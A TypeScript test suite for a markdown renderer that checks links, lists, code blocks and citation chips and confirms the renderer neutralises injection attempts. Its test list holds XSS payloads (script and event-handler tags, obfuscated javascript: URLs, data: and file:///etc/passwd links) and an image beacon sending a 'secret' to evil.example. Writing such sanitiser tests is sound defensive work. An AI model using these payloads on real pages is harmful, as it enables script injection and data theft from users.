import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseHTML } from 'linkedom';
import { renderMarkdown, safeUrl } from './markdown.ts';

const { document } = parseHTML('<!doctype html><html><body></body></html>');

function render(text: string): HTMLElement {
  const holder = document.createElement('div');
  holder.append(renderMarkdown(text, document));
  return holder;
}
const html = (text: string): string => render(text).innerHTML;
const allowed = new Set(['p', 'br', 'strong', 'em', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote', 'a']);
const allowedAttributes = new Set(['href', 'target', 'rel', 'title', 'start', 'class', 'tabindex']);

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](https://bank.example@evil.example/)',
  '![x](https://evil.example/collect?secret=1)',
  '![x](https://evil.example/a.png "onload=alert(1)")',
  '[x](https://ok.example/"onmouseover="alert(1))',
  "[x](https://ok.example/'onclick='alert(1))",
  '<https://ok.example/"onclick=alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '**<b onclick=alert(1)>x</b>**',
  '- <iframe src=javascript:alert(1)>',
  '> <object data=evil.swf>',
  '# <style>@import url(https://evil.example)</style>',
  '[![x](https://evil.example/p.png)](javascript:alert(1))',
  '[ref]: https://evil.example/x.png\n![a][ref]',
  '</p></div><script>alert(1)</script>',
];

describe('markdown', () => {
  for (const text of attacks) {
    it(`stays text: ${JSON.stringify(text)}`, () => {
      for (const node of render(text).querySelectorAll('*')) {
        assert.ok(allowed.has(node.localName), `no <${node.localName}>`);
        for (const { name } of node.attributes) assert.ok(allowedAttributes.has(name), `no ${name}`);
        const href = node.getAttribute('href');
        if (href !== null) assert.match(href, /^(https?:|mailto:)/);
      }
    });
  }

  it('fetches nothing: an image is a link', () => {
    const node = render('Look: ![a chart](https://evil.example/c.png)');
    assert.equal(node.querySelector('img'), null);
    assert.equal(node.querySelector('a')?.getAttribute('href'), 'https://evil.example/c.png');
    assert.equal(node.querySelector('a')?.textContent, 'a chart');
  });

  it('does not leave the page when a link is followed', () => {
    const link = render('[site](https://example.com/a)').querySelector('a');
    assert.equal(link?.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(link?.getAttribute('target'), '_blank');
  });

  it('shows a refused link as it was written', () => {
    assert.equal(render('[x](javascript:alert(1))').textContent, '[x](javascript:alert(1))');
  });

  it('takes only addresses that can be followed safely', () => {
    assert.equal(safeUrl('mailto:help@example.com'), 'mailto:help@example.com');
    assert.equal(safeUrl('/relative'), null);
    assert.equal(safeUrl('https://user:secret@example.com/'), null);
    assert.equal(safeUrl('blob:https://example.com/1'), null);
  });

  it('is done with hostile repetition in time that grows with the text', () => {
    const patterns = ['[', '![', '**a ', '*a', '`', '_a', '[a](', '[a](b(', '<https://', 'https://a', '\\', '> '];
    for (const pattern of patterns) assert.ok(render(pattern.repeat(20_000)).textContent !== null);
  });

  it('renders paragraphs and line breaks', () => {
    assert.equal(html('one\ntwo\n\nthree'), '<p>one<br>two</p><p>three</p>');
  });

  it('renders bold, italic, code and their nesting', () => {
    assert.equal(
      html('**bold** *soft* `a*b*c` **a *b* c**'),
      '<p><strong>bold</strong> <em>soft</em> <code>a*b*c</code> <strong>a <em>b</em> c</strong></p>',
    );
    assert.equal(html('snake_case_name 2 * 3 * 4'), '<p>snake_case_name 2 * 3 * 4</p>');
    assert.equal(html('\\*not soft\\*'), '<p>*not soft*</p>');
  });

  it('renders lists that start where they say', () => {
    assert.equal(html('- a\n- b'), '<ul><li>a</li><li>b</li></ul>');
    assert.equal(html('3. c\n4. d'), '<ol start="3"><li>c</li><li>d</li></ol>');
    assert.equal(html('1. a\n\n2. b'), '<ol><li>a</li><li>b</li></ol>');
  });

  it('renders code blocks as they are, also unfinished ones', () => {
    assert.equal(render('```js\na < b\n**no**').querySelector('pre')?.textContent, 'a < b\n**no**');
  });

  it('leaves the full stop outside the address', () => {
    const node = render('See https://example.com/refunds.');
    assert.equal(node.querySelector('a')?.getAttribute('href'), 'https://example.com/refunds');
    assert.equal(node.textContent, 'See https://example.com/refunds.');
  });

  it('keeps the address of a link in angle brackets', () => {
    const node = render('See <https://example.com/a>, then ask.');
    assert.equal(node.textContent, 'See https://example.com/a, then ask.');
  });

  it('puts chips only for numbers that have a source', () => {
    const holder = document.createElement('div');
    holder.append(
      renderMarkdown('Yes [1], no [2].', document, (number) =>
        number === 1 ? document.createElement('button') : null,
      ),
    );
    assert.equal(holder.innerHTML, '<p>Yes <button></button>, no [2].</p>');
  });

  it('leaves what a person typed as it is, and makes an address a link', () => {
    const holder = document.createElement('div');
    const typed = 'Dial *123*456#\n1. `now` [1] **or** https://shop.example/a_b_c.';
    holder.append(renderMarkdown(typed, document, false));
    assert.equal(holder.textContent, typed);
    assert.deepEqual(
      [...holder.querySelectorAll('*')].map((node) => [node.localName, node.getAttribute('href')]),
      [['a', 'https://shop.example/a_b_c']],
    );
    for (const attack of attacks) {
      const shown = document.createElement('div');
      shown.append(renderMarkdown(attack, document, false));
      assert.equal(shown.textContent, attack);
    }
  });
});
